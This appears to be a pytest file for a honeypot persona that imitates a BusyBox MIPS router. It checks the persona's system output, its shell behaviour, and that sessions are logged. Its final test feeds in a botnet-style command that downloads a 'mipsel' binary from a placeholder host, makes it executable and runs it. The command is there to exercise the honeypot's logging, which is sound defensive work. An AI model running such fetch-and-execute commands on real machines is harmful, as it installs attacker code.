"""The persona busybox-router: a small MIPS machine behind dropbear."""
import os
import pathlib
import re

import pytest

from conftest import ROOT

IMAGE = pathlib.Path(os.environ.get("LURED_ROUTER_IMAGE",
                                    ROOT / "build/persona/busybox-router.image"))
CONFIG = "ssh:\n  profile: dropbear-2022.83\n"

pytestmark = pytest.mark.skipif(not IMAGE.exists(), reason="script/setup makes the image")


@pytest.fixture
def router(own_honeypot):
    return own_honeypot(CONFIG, image=IMAGE)


def test_the_machine_is_a_router_in_all_that_it_says(router):
    done = router.ssh("uname -srm; hostname; head -1 /proc/cpuinfo; nproc; cat /etc/hostname; "
                      "cat /proc/sys/kernel/osrelease; cat /proc/version")
    lines = done.stdout.decode().splitlines()
    assert lines[:6] == ["Linux 5.10.201 mips", "gw", "system type\t\t: MediaTek MT7620A ver:2 eco:6",
                         "1", "gw", "5.10.201"]
    assert lines[6].startswith("Linux version 5.10.201 ")
    assert done.returncode == 0


def test_a_shell_of_busybox_answers_at_a_terminal(router):
    done = router.ssh(tty=True, input=b"echo $0; echo $((6*7)) | tr 4 x; busybox | head -1; exit 3\n",
                      stdin=None)
    text = done.stdout.decode()
    assert "firmware 1.4.2" in text and "built-in shell (ash)" in text
    assert "root@gw:~# " in text
    assert re.search(r"^-sh\r$", text, re.M) and re.search(r"^x2\r$", text, re.M)
    assert done.returncode == 3


def test_processes_and_mounts_are_those_of_a_router(router):
    text = router.ssh("ps; cat /proc/mounts; netstat -ltn; free").stdout.decode()
    for expected in ("/usr/sbin/telnetd -F -l /bin/login", "/usr/sbin/dropbear -F -p 22",
                     "overlayfs:/overlay / overlay rw,noatime", "0.0.0.0:23 "):
        assert expected in text
    for foreign in ("systemd", "sshd", "vda1", "ext4"):
        assert foreign not in text
    pids = [int(line.split()[0]) for line in text.splitlines() if line[:5].strip().isdigit()]
    assert pids and max(pids) < 32768


def test_scripts_and_programs_for_its_processor_run_and_others_do_not(router):
    text = router.ssh("cp /bin/busybox /tmp/busybox && /tmp/busybox echo own; bash -c 'a=(1 2 3); echo ${#a[@]}'; "
                      "printf '\\177ELF\\2\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0\\76\\0' >/tmp/y; "
                      "head -c 100 /dev/zero >>/tmp/y; chmod +x /tmp/y; bash -c 'exec /tmp/y'; echo $?"
                      ).stdout.decode().splitlines()
    assert text == ["own", "3", "126"]


def test_what_is_done_there_is_recorded(router):
    with router.recorded() as sessions:
        router.ssh("wget http://192.0.2.1/mipsel; chmod 777 mipsel; ./mipsel")
    events = {event["eventid"] for event in sessions[0]}
    assert {"cowrie.login.success", "cowrie.command.input"} <= events
